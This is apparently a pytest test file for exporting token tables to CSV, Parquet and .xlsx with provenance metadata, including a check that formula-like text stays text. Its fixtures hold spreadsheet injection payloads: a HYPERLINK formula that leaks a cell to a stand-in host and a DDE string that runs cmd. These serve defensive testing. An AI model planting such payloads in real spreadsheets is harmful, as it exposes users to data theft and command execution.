"""Exported tables: CSV with the header on line 1 and a JSON sidecar, Parquet with its provenance, and a
spreadsheet-safe .xlsx where text that looks like a formula stays text."""
from __future__ import annotations

import io
import json
import zipfile

import numpy as np
import openpyxl
import pandas as pd
import pytest

from engine.errors import InputError
from engine.reports.export import csv_bundle, read_metadata, read_table, sidecar_path, write_table
from engine.reports.spreadsheet import MAX_ROWS, escape_text, unescape_text

# Tokens a vocabulary really holds, and the ones an attacker would choose.
TOKENS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "+1", "-2", "@SUM(A1:A9)", "=cmd|' /C calc'!A0",
          "NA", "null", "NaN", "", " ", "#", "\r", "\n", "x\r\ny", '"', '","', "a\x00b", "\x01", "\t=1", "_x0041_",
          "_x005F_", "é", "😀", "\u2028", "\ufeff", " love"]
PROMPT = 'Line one\r\nline two, "quoted"\ttab; ünïcödé 😀 =1+1'


@pytest.fixture
def table() -> pd.DataFrame:
    rng = np.random.default_rng(0)
    return pd.DataFrame({"token_id": np.arange(len(TOKENS)), "token": TOKENS, "score": rng.normal(size=len(TOKENS)),
                         "rank": np.arange(1, len(TOKENS) + 1)})


META = {"prompt_text": PROMPT, "model_id": "=evil", "runs": [f"run{i:04d}" for i in range(500)], "resamples": 9999}


def test_csv_header_is_line_one_and_tokens_are_byte_exact(tmp_path, table):
    path = write_table(table, tmp_path / "top.csv", META)
    assert path.read_bytes().startswith(b'"token_id","token","score","rank"\n')  # no `#` lines
    pd.testing.assert_frame_equal(read_table(path), table, check_exact=True)
    plain = pd.read_csv(path, keep_default_na=False)
    assert plain["token"].tolist() == TOKENS
    np.testing.assert_array_equal(plain["score"].to_numpy(), table["score"].to_numpy())  # floats exact as well
    assert pd.read_csv(path)["token"].isna().sum() == 4  # "NA", "null", "NaN", "": why the sidecar says to pass the option
    meta = json.loads(sidecar_path(path).read_text())
    assert meta["prompt_text"] == PROMPT and len(meta["runs"]) == 500 and meta["resamples"] == 9999
    assert "keep_default_na=False" in meta["file_format"]["reading"]
    assert read_metadata(path)["model_id"] == "=evil"


def test_missing_values_and_types_survive_the_csv(tmp_path):
    df = pd.DataFrame({"word": ["a", "", None, "b"], "key": [None, None, "k", None],
                       "n": pd.array([1, None, 3, 4], dtype="Int64"), "x": [0.1, np.nan, -np.inf, 1e-300],
                       "ok": [True, False, True, True], "when": pd.to_datetime(["2026-01-01", None, "2026-01-03", "2026-01-04"])})
    path = write_table(df, tmp_path / "t.csv", {})
    pd.testing.assert_frame_equal(read_table(path), df, check_exact=True)
    assert pd.read_csv(path)["x"].isna().tolist() == [False, True, False, False]  # a missing number is an empty cell


def test_parquet_carries_the_same_provenance(tmp_path, table):
    path = write_table(table, tmp_path / "top.parquet", META)
    pd.testing.assert_frame_equal(pd.read_parquet(path), table)
    meta = read_metadata(path)
    assert meta["prompt_text"] == PROMPT and meta["runs"] == META["runs"] and meta["file_format"]["rows"] == len(table)


def test_xlsx_has_no_formula_cells_and_text_is_exact(tmp_path, table):
    path = write_table(table, tmp_path / "top.xlsx", META)
    book = openpyxl.load_workbook(path)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    column = [c.value for c in book["table"]["B"][1:]]
    readable = [t for t in TOKENS if escape_text(t) == t and t]  # no control character to carry as _xHHHH_
    assert [v for v, t in zip(column, TOKENS) if t in readable] == readable  # openpyxl alone reads them back exactly
    assert [unescape_text(v or "") for v in column] == TOKENS  # and every token, _xHHHH_ undone
    first = book["table"]["B"][1]
    assert first.value.startswith("=HYPERLINK") and first.quotePrefix  # text, and stays text when edited
    back = read_table(path)
    assert back["token"].tolist() == TOKENS and back["token_id"].tolist() == table["token_id"].tolist()
    np.testing.assert_allclose(back["score"], table["score"], rtol=1e-15)  # openpyxl writes 16 significant digits
    meta = read_metadata(path)
    assert meta["prompt_text"] == PROMPT and meta["runs"] == META["runs"] and meta["model_id"] == "=evil"


def test_a_table_too_big_for_a_sheet_is_refused(tmp_path, monkeypatch):
    import engine.reports.spreadsheet as spreadsheet

    monkeypatch.setattr(spreadsheet, "MAX_ROWS", 3)
    with pytest.raises(InputError, match="at most 3"):
        write_table(pd.DataFrame({"a": range(4)}), tmp_path / "big.xlsx")
    assert not (tmp_path / "big.xlsx").exists()
    with pytest.raises(InputError, match="32,767"):
        write_table(pd.DataFrame({"prompt": ["x" * 40_000]}), tmp_path / "long.xlsx")
    assert MAX_ROWS == 1_048_575


def test_unknown_suffix_is_refused(tmp_path, table):
    with pytest.raises(InputError, match=r"\.csv, \.parquet or \.xlsx"):
        write_table(table, tmp_path / "top.txt")


def test_download_bundle_holds_the_csv_and_its_provenance(table):
    with zipfile.ZipFile(io.BytesIO(csv_bundle(table, META, "valuescope_ranking_x"))) as bundle:
        assert sorted(bundle.namelist()) == ["valuescope_ranking_x.csv", "valuescope_ranking_x.meta.json"]
        csv_text = bundle.read("valuescope_ranking_x.csv")
        meta = json.loads(bundle.read("valuescope_ranking_x.meta.json"))
    assert pd.read_csv(io.BytesIO(csv_text), keep_default_na=False)["token"].tolist() == TOKENS
    assert meta["prompt_text"] == PROMPT


def test_files_from_older_versions_still_read(tmp_path):
    old = tmp_path / "old.csv"
    old.write_text('# run_id: abc\n# prompt_text: What?\n"token_id","token","score","rank"\n1,"NA",0.5,1\n')
    assert read_metadata(old) == {"run_id": "abc", "prompt_text": "What?"}
    assert read_table(old)["token"].tolist() == ["NA"]
